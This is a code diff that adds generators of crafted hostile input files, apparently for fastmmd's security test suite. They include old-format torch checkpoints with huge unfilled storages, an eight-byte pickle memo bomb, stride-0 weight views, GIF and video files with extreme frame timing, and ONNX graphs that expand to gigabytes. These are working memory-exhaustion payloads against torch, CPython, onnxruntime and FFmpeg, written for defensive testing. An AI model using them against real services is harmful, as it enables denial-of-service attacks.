@@ -324,7 +324,6 @@ def pt2_many_members(exports: dict[str, Path], out: Path, scale: int = 50_000) -
 
 
 def _onnx_model(nodes: list, initializers: list, output_shape=None, opset: int = 17):
-    import onnx
     from onnx import TensorProto, helper
 
     graph = helper.make_graph(nodes, "crafted", [helper.make_tensor_value_info("image", TensorProto.FLOAT, None)],
@@ -487,3 +486,214 @@ METADATA_PAYLOADS = {
     "deep-json": lambda text: "[" * 100_000 + "]" * 100_000,
     "5000-digit-int": _field("min_size", "1" * 5000),
 }
+
+
+# ------------------------------------------------------------------------------------------------
+# Issue 26, round three: old-format (non-zip) torch files, pickle-machine bombs, video timelines.
+# ------------------------------------------------------------------------------------------------
+def legacy_bytes(obj: object, storages: list[tuple[_StorageRef, bool]], storage_type: object = None) -> bytes:
+    """An old-format (``_use_new_zipfile_serialization=False``) torch file for ``obj``, built by hand.
+
+    Layout (torch.serialization._legacy_save): pickles of the magic number, the protocol version,
+    the system info and ``obj`` (whose :class:`_StorageRef` become storage ids naming their element
+    count), the list of storage keys, then each listed storage inline (int64 count, 64 zero bytes
+    here). torch allocates every storage from its declared count while unpickling ``obj``; a storage
+    whose ``listed`` flag is False is never filled and comes back as uninitialised memory.
+    """
+    import struct
+
+    from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION
+
+    kind = storage_type or torch.FloatStorage
+
+    class Pickler(pickle.Pickler):
+        def persistent_id(self, o):
+            return ("storage", kind, o.key, "cpu", o.numel, None) if isinstance(o, _StorageRef) else None
+
+    buffer = io.BytesIO()
+    info = {"protocol_version": PROTOCOL_VERSION, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
+    for value in (MAGIC_NUMBER, PROTOCOL_VERSION, info):
+        pickle.dump(value, buffer, protocol=2)
+    Pickler(buffer, protocol=2).dump(obj)
+    listed = [ref for ref, keep in storages if keep]
+    pickle.dump([ref.key for ref in listed], buffer, protocol=2)
+    for ref in listed:
+        buffer.write(struct.pack("<q", ref.numel) + bytes(64))
+    return buffer.getvalue()
+
+
+def ckpt_legacy_declared(exports: dict[str, Path], out: Path, scale: int = 4096) -> Path:
+    """A 4 KB old-format ``.ckpt`` describing a network of width ``scale`` whose weights are storages
+    that *declare* exactly the bytes of each weight (51 GB at width 4096, 3.2 GB at 1024) and are never
+    filled: torch allocated them uninitialised, the byte check passed (views = storages), and fastmmd
+    built the network."""
+    from fastmmd.model.networks import TransformerNet
+
+    config = {"width": scale or 4096, "residual_blocks": 2}
+    with torch.device("meta"):
+        shapes = {k: tuple(v.shape) for k, v in TransformerNet.from_config(config).state_dict().items()}
+    state, refs = {}, []
+    for i, (k, shape) in enumerate(shapes.items()):
+        numel = max(1, int(torch.Size(shape).numel()))
+        refs.append((ref := _StorageRef(str(i), numel), False))
+        state[f"network.{k}"] = _TensorView(ref, shape, tuple(torch.empty(shape, device="meta").stride()))
+    (path := out / "legacy_declared.ckpt").write_bytes(legacy_bytes({"state_dict": state, "fastmmd": _bomb_meta(config)}, refs))
+    return path
+
+
+def ckpt_legacy_resized(exports: dict[str, Path], out: Path, scale: int = 1 << 30) -> Path:
+    """An old-format ``.ckpt`` whose one 16-element storage is seen as a ``scale``-element weight:
+    torch's ``set_`` *grows* an old-format storage to fit the view (4 GB at 2^30) before anything checks it."""
+    ref = _StorageRef("0", 16)
+    state = {"network.w": _TensorView(ref, (scale,), (1,))}
+    data = legacy_bytes({"state_dict": state, "fastmmd": _bomb_meta({"width": 8, "residual_blocks": 1})}, [(ref, False)])
+    (path := out / "legacy_resized.ckpt").write_bytes(data)
+    return path
+
+
+def vgg_legacy_declared(out: Path, scale: int = 1 << 31) -> Path:
+    """A 400-byte old-format VGG ``.pth`` whose ``0.weight`` is a float16 storage declaring ``scale``
+    elements, never filled: ``.float()`` of it allocated and wrote 4 x ``scale`` bytes (8 GB at 2^31)."""
+    ref = _StorageRef("0", scale)
+    data = legacy_bytes({"features.0.weight": _TensorView(ref, (scale,), (1,))}, [(ref, False)], torch.HalfStorage)
+    (path := out / "legacy_declared.pth").write_bytes(data)
+    return path
+
+
+def vgg_stride0(out: Path, scale: int = 1 << 31) -> Path:
+    """A zip VGG ``.pth`` whose ``0.weight`` is a stride-0 view (``scale`` float16 elements) of one
+    64-byte storage: ``.float()`` of it wrote 4 x ``scale`` bytes."""
+    ref = _StorageRef("0", 32)
+    data = torch_pickle({"features.0.weight": _TensorView(ref, (scale,), (0,))}).replace(b"FloatStorage", b"HalfStorage")
+    return _deflated_zip(out / "stride0.pth", {"archive/data.pkl": data, "archive/byteorder": b"little",
+                                                "archive/version": b"3\n", "archive/data/0": bytes(64)})
+
+
+def pickle_memo_bomb(index: int = 1 << 30) -> bytes:
+    """Eight bytes of pickle: ``None`` stored at memo index ``index``. CPython's C unpickler grows its
+    memo table to 2 x ``index`` slots and zeroes them (16 GB at 2^30) before anything else happens."""
+    import struct
+
+    return b"\x80\x02N" + b"r" + struct.pack("<I", index) + b"."
+
+
+def pt_memo(exports: dict[str, Path], out: Path, scale: int = 1 << 30) -> Path:
+    """A TorchScript ``.pt`` whose ``data.pkl`` is :func:`pickle_memo_bomb` (fastmmd unpickles it itself)."""
+    bomb = pickle_memo_bomb(scale)
+    return rewrite_zip(exports["torchscript"], out / "memo.pt", lambda name, data: bomb if name.endswith("/data.pkl") else data)
+
+
+RESOURCE_PAYLOADS.update({
+    "ckpt-legacy-declared": (ckpt_legacy_declared, 4096, 4096),
+    "ckpt-legacy-resized": (ckpt_legacy_resized, 1 << 30, 1 << 30),
+    "pt-memo": (pt_memo, 1 << 30, 1 << 30),
+})
+
+
+def gif_fast_screen(out: Path, side: int = 4600, frames: int = 50) -> Path:
+    """A GIF (20 bytes a frame) whose ``frames`` 1x1 images each repaint a ``side`` x ``side`` screen
+    every 0.02 s (the shortest delay FFmpeg honours): 21 Mpx x 50 fps = 1.06 Gpx per second of clip at 4600."""
+    import struct
+
+    header = b"GIF89a" + struct.pack("<HHBBB", side, side, 0xF0, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
+    frame = (b"\x21\xf9\x04\x00\x02\x00\x00\x00"  # graphic control: 2 centiseconds
+             + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00")
+    path = out / "fast_screen.gif"
+    path.write_bytes(header + frame * frames + b"\x3b")
+    return path
+
+
+def _retimed_clip(out: Path, name: str, frames: int, time_base: "Fraction", step: int, size: int = 16) -> Path:
+    """``frames`` black ``size`` px H.264 frames whose packets are restamped ``step`` units of
+    ``time_base`` apart (0: all at one instant) in the container that ``name``'s suffix picks."""
+    import av
+    import numpy as np
+
+    plain = out / f"plain_{name}.mkv"
+    with av.open(str(plain), "w") as c:
+        s = c.add_stream("libx264", rate=25, options={"preset": "ultrafast"})
+        s.width, s.height, s.pix_fmt = size, size, "yuv420p"
+        black = np.zeros((size, size, 3), np.uint8)
+        for i in range(frames):
+            f = av.VideoFrame.from_ndarray(black, format="rgb24")
+            f.pts = i
+            for p in s.encode(f):
+                c.mux(p)
+        for p in s.encode():
+            c.mux(p)
+    path = out / name
+    with av.open(str(plain)) as src, av.open(str(path), "w") as dst:
+        stream = dst.add_stream_from_template(src.streams.video[0])
+        stream.time_base = time_base
+        for i, packet in enumerate(p for p in src.demux(src.streams.video[0]) if p.size):
+            packet.stream, packet.time_base = stream, time_base
+            packet.pts = packet.dts = i * step
+            dst.mux(packet)
+    plain.unlink()
+    return path
+
+
+def clip_microsecond_frames(out: Path, frames: int = 300) -> Path:
+    """An MP4 (7 KB) whose ``frames`` are a microsecond apart: it declares about 900,000 fps."""
+    from fractions import Fraction
+
+    return _retimed_clip(out, "microseconds.mp4", frames, Fraction(1, 1_000_000), 1)
+
+
+def clip_one_instant(out: Path, frames: int = 1100) -> Path:
+    """An MKV whose ``frames`` all carry timestamp 0 while its header declares 25 fps: only the
+    frames as decoded tell (1,100 frames in 0 s of timeline)."""
+    from fractions import Fraction
+
+    return _retimed_clip(out, "one_instant.mkv", frames, Fraction(1, 1000), 0)
+
+
+def onnx_constant_expand(exports: dict[str, Path], out: Path, scale: int = 1 << 15) -> Path:
+    """A constant 1.0 ``Expand``-ed to ``scale`` x ``scale`` floats from initializers alone (4 GiB at
+    2^15): onnxruntime folds it while it *opens* the session, before any run."""
+    import numpy as np
+    from onnx import helper, numpy_helper
+
+    inits = [numpy_helper.from_array(np.array([scale, scale], dtype=np.int64), "shape"),
+             numpy_helper.from_array(np.array([1.0], dtype=np.float32), "one")]
+    nodes = [helper.make_node("Expand", ["one", "shape"], ["big"]),
+             helper.make_node("ReduceMean", ["big"], ["m"], keepdims=0),
+             helper.make_node("Add", ["image", "m"], ["stylized"])]
+    return _save_onnx(_onnx_model(nodes, inits), out / "constant_expand.onnx")
+
+
+def onnx_outer_product(exports: dict[str, Path], out: Path, scale: int = 0) -> Path:
+    """Allowed operators only: the image's values as a column times themselves as a row, a
+    (3HW)^2 matrix: 5.8 MB for a 20 x 20 photo, 3.6 GB for 100 x 100, 36 TB for 1000 x 1000."""
+    import numpy as np
+    from onnx import helper, numpy_helper
+
+    inits = [numpy_helper.from_array(np.array([-1, 1], dtype=np.int64), "column"),
+             numpy_helper.from_array(np.array([1, -1], dtype=np.int64), "row")]
+    nodes = [helper.make_node("Reshape", ["image", "column"], ["c"]), helper.make_node("Reshape", ["image", "row"], ["r"]),
+             helper.make_node("MatMul", ["c", "r"], ["square"]),
+             helper.make_node("ReduceMean", ["square"], ["m"], keepdims=0),
+             helper.make_node("Add", ["image", "m"], ["stylized"])]
+    return _save_onnx(_onnx_model(nodes, inits), out / "outer_product.onnx")
+
+
+def onnx_shape_from_data(exports: dict[str, Path], out: Path, scale: int = 1 << 20) -> Path:
+    """A ``Reshape``/``Expand`` whose target shape is computed from the image's *values*
+    (mean x ``scale``): no shape can be known before the run, so no bound either."""
+    import numpy as np
+    from onnx import TensorProto, helper, numpy_helper
+
+    inits = [numpy_helper.from_array(np.array([float(scale)], dtype=np.float32), "scale")]
+    nodes = [helper.make_node("ReduceMean", ["image"], ["mean"], keepdims=0),
+             helper.make_node("Mul", ["mean", "scale"], ["n"]),
+             helper.make_node("Cast", ["n"], ["dims"], to=TensorProto.INT64),
+             helper.make_node("Expand", ["mean", "dims"], ["big"]),
+             helper.make_node("ReduceMean", ["big"], ["m"], keepdims=0),
+             helper.make_node("Add", ["image", "m"], ["stylized"])]
+    return _save_onnx(_onnx_model(nodes, inits), out / "shape_from_data.onnx")
+
+
+RESOURCE_PAYLOADS.update({
+    "onnx-constant-expand": (onnx_constant_expand, 1 << 15, 1 << 15),
+    "onnx-shape-from-data": (onnx_shape_from_data, 1 << 20, 1 << 20),
+})
